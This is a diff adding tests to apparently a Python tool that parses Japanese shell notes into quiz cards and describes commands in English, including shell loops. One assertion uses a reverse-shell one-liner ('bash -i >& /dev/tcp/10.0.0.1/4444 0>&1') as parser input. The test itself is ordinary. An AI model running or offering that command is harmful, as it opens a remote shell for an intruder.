@@ -49,6 +49,14 @@ LINE_CASES = {
         "## 起動\n\n```\n# コンテナに入る\nme@web-01:~$ docker exec -it web bash\n```\n",
         [("example", "起動（コンテナに入る）", "docker exec -it web bash")],  # as after a bare "$"
     ),
+    "macOS's prompt, and programs the notes' shells use": (
+        "## 調査\n\n```\n# クラスタを起動\nmbp:~ me$ minikube start\n"
+        "# パケットを取る\nmbp:~ me$ tcpdump -i eth0 -w a.pcap\n```\n",
+        [
+            ("example", "調査（クラスタを起動）", "minikube start"),
+            ("example", "調査（パケットを取る）", "tcpdump -i eth0 -w a.pcap"),
+        ],
+    ),
     "words that only name the command, or point at it, are no description": (
         "## Tips\n\n- use `apt-get install --no-install-recommends curl`\n- これらは `kubectl get jobs` で確認できる\n",
         [],
@@ -163,3 +171,18 @@ def test_a_flag_defined_under_a_programs_heading_is_no_description_of_the_progra
     assert [(d.kind, d.prompt_ja, d.answer) for d in parse_notes(text, deck="x").drafts if d.kind == "command"] == [
         ("command", "ファイル一覧", "ls")
     ]
+
+
+def test_english_says_a_shell_loop_as_a_loop_and_never_reads_its_syntax_as_commands():
+    from dockquiz.grading.grammar import grammar
+    from dockquiz.notes.english import command_en
+
+    g = grammar()
+    assert command_en(g, 'for f in "$@"; do echo $f; done') == 'For each f in "$@": an `echo` command'
+    assert command_en(g, "while true; do date; sleep 1; done") == "While true: a `date` command; then a `sleep` command"
+    assert command_en(g, "for c in $(docker ps -q); do docker stop $c; done") == (
+        "For each c in the output of “list containers, show only container IDs”: stop $c"
+    )
+    # `\;` ends -exec's command and `>& file` redirects a stream: neither is a command of its own
+    assert command_en(g, "find . -name '*.tmp' -exec rm {} \\;") == "A `find` command"
+    assert command_en(g, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") == "A `bash` command"
